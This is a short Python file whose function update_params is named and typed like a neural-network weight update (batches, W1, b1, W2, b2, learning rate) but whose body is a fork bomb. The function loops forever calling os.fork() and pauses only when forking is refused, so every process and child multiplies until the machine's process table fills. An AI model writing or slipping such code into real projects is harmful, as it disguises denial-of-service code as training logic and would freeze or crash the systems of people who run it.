# Every process forks forever (the children too); pauses only when fork is refused.
import os
import time


def update_params(batchx, batchy, W1, b1, W2, b2, lr=0.01):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
